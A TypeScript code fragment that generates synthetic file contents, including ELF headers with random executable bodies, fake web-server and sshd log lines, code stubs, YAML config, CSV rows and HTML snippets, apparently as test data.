function elf(kind: 'elf64' | 'elf32', rng: Random, size: number): Buffer {
  const header = Buffer.alloc(HEADER[kind]!);
  header.writeUInt32BE(0x7f454c46, 0);
  header[4] = kind === 'elf64' ? 2 : 1;
  header[5] = 1;
  header[6] = 1;
  header.writeUInt16LE(3, 16);
  header.writeUInt16LE(kind === 'elf64' ? 0x3e : 0x03, 18);
  return Buffer.concat([header, executableBody(rng, size - header.length)]);
}

const WORDS = [
  'account', 'bucket', 'region', 'invoice', 'customer', 'status', 'pending', 'shipped', 'report', 'deploy', 'service', 'latency',
  'cache', 'session', 'timeout', 'metrics', 'backup', 'archive', 'payment', 'order', 'catalog', 'warehouse', 'inventory', 'analytics',
  'pipeline', 'release', 'feature', 'handler', 'profile', 'upload', 'thumbnail', 'checkout', 'ledger', 'quota', 'tenant', 'widget',
];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15',
  'aws-sdk-js/3.1169.0 ua/2.1 os/linux lang/js md/nodejs#20.19.0',
  'Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#5.10 md/arch#x86_64 lang/python#3.12.1',
  'ELB-HealthChecker/2.0',
];
const word = (r: Random) => r.pick(WORDS);
const ip = (r: Random) => `${r.pick(['192.0.2', '198.51.100', '203.0.113', '10.0.1', '10.0.2'])}.${r.between(1, 254)}`;
const two = (n: number) => String(n).padStart(2, '0');
const time = (r: Random) => `${two(r.int(24))}:${two(r.int(60))}:${two(r.int(60))}`;

const LINES = {
  log: (r: Random) =>
    r.chance(0.7)
      ? `${ip(r)} - - [${two(r.between(1, 28))}/Nov/2026:${time(r)} +0000] "${r.pick(['GET', 'GET', 'POST', 'PUT'])} /${word(r)}/${word(r)}?id=${r.int(100000)} HTTP/1.1" ${r.pick([200, 200, 200, 304, 404, 500])} ${r.int(50000)} "-" "${r.pick(AGENTS)}"\n`
      : `Nov ${two(r.between(1, 28))} ${time(r)} ip-10-0-1-${r.between(1, 254)} ${r.pick(['sshd', 'systemd', 'cron', 'kernel'])}[${r.int(32768)}]: ${word(r)} ${word(r)} for ec2-user from ${ip(r)} port ${r.between(1024, 65535)}\n`,
  source: (r: Random) =>
    r.chance(0.5)
      ? `export async function ${word(r)}${r.pick(WORDS).replace(/^./, (c) => c.toUpperCase())}(${word(r)}, options = {}) {\n  const ${word(r)} = await client.get('/${word(r)}/' + ${word(r)}.id);\n  if (!${word(r)}) return null;\n  return ${word(r)}.items.map((item) => item.${word(r)});\n}\n\n`
      : `def ${word(r)}_${word(r)}(self, ${word(r)}):\n    result = self.${word(r)}.get("${word(r)}", ${r.int(1000)})\n    return result\n\n`,
  config: configLine,
  csv: (r: Random) => `${r.int(1e6)},2026-11-${two(r.between(1, 28))}T${time(r)}Z,123456789012,${r.pick(['us-east-1', 'eu-west-1', 'ap-southeast-2'])},${word(r)},${(r.next() * 1000).toFixed(2)}\n`,
  html: htmlLine,
};

function configLine(r: Random): string {
  return `${word(r)}:\n  ${word(r)}_${word(r)}: ${r.pick(['true', 'false', String(r.int(10000)), `"${word(r)}-${r.int(100)}"`])}\n  endpoint: "https://${word(r)}.example.com/${word(r)}"\n`;
}

function htmlLine(r: Random): string {
  return `<div class="${word(r)}"><h2>${word(r)} ${word(r)}</h2><p>The ${word(r)} ${word(r)} is ${word(r)} for ${word(r)} ${r.int(100)}.</p><a href="/${word(r)}/${r.int(1000)}">${word(r)}</a></div>\n`;
}
